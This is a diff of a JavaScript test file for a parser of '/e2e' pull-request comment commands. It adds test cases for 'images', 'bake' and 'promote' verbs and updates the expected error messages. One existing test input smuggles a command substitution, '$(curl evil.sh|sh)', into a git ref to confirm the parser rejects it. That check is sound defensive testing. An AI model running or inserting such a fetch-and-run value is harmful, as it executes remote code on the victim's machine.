@@ -22,6 +22,12 @@ describe('PR comment commands', () => {
     ['/e2e help', { verb: 'help', topic: null }],
     ['/e2e help cancel', { verb: 'help', topic: 'cancel' }],
     ['/e2e --help', { verb: 'help', topic: null }],
+    ['/e2e images', { verb: 'images', image: null }],
+    ['/e2e images mentor-app', { verb: 'images', image: 'mentor-app' }],
+    ['/e2e bake mentor-app', { verb: 'bake', image: 'mentor-app', ref: null, dryRun: false }],
+    ['/e2e bake mentor-app --ref=release/2.4 --dry-run', { verb: 'bake', image: 'mentor-app', ref: 'release/2.4', dryRun: true }],
+    ['/e2e promote mentor-app --to=stable', { verb: 'promote', image: 'mentor-app', source: 'candidate', to: 'stable' }],
+    ['/e2e promote mentor-app ami-0a1b2c3d4e5f60718 --to=latest', { verb: 'promote', image: 'mentor-app', source: 'ami-0a1b2c3d4e5f60718', to: 'latest' }],
   ])('%j', (body, expected) => {
     expect(parsePrComment(body, ctx)).toEqual(expected);
   });
@@ -49,13 +55,15 @@ describe('PR comment commands', () => {
   });
 
   it.each([
-    ['/e2e status', '`/e2e status` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]` or `/e2e help`'],
-    ['/e2e teardown stg4-20261121-a1b2c3', '`/e2e teardown` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]` or `/e2e help`'],
+    ['/e2e status', '`/e2e status` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]`, `/e2e images [image]`, `/e2e bake <image>`, `/e2e promote <image> --to=latest|stable` or `/e2e help`'],
+    ['/e2e teardown stg4-20261121-a1b2c3', '`/e2e teardown` is not available in pull-request comments; use `/e2e [env] [flags]`, `/e2e cancel`, `/e2e retest [browser]`, `/e2e images [image]`, `/e2e bake <image>`, `/e2e promote <image> --to=latest|stable` or `/e2e help`'],
     ['/e2e cancel stg4-20261121-a1b2c3', "`/e2e cancel` takes no run id: it cancels this pull request's run"],
-    ['/e2e canel', 'unknown command `canel` — did you mean `cancel`? (in a pull request: launch, cancel, retest, help)'],
+    ['/e2e bake', 'bake needs an image, e.g. `bake mentor-app`'],
+    ['/e2e promote mentor-app', 'promote needs `--to`, e.g. `promote mentor-app --to=latest`'],
+    ['/e2e canel', 'unknown command `canel` — did you mean `cancel`? (in a pull request: launch, cancel, retest, images, bake, promote, help)'],
     ['/e2e stg9', 'unknown environment `stg9`; known: stg1, stg2, stg3, stg4'],
     ['/e2e stg2 stg3', 'unexpected argument `stg3`; usage: `/e2e [env] [--browsers=a,b] [--keep[=DURATION]] [--ref=REF] [--dry-run] [--ami=candidate|AMI]`'],
-    ['/e2e help status', 'unknown command `status`; commands: launch, cancel, retest, help'],
+    ['/e2e help status', 'unknown command `status`; commands: launch, cancel, retest, images, bake, promote, help'],
     ['/e2e --browsers=opera', 'unknown browser `opera`; known: chrome, firefox, safari, edge'],
     ['/e2e --ref=$(curl evil.sh|sh)', 'unknown environment `evil.sh|sh)`; known: stg1, stg2, stg3, stg4'],
     ['/e2e --ref=$(curl', '`--ref=$(curl` is not a safe git ref (`$` is not allowed); use a branch, tag or commit SHA made of letters, digits and . _ - /'],
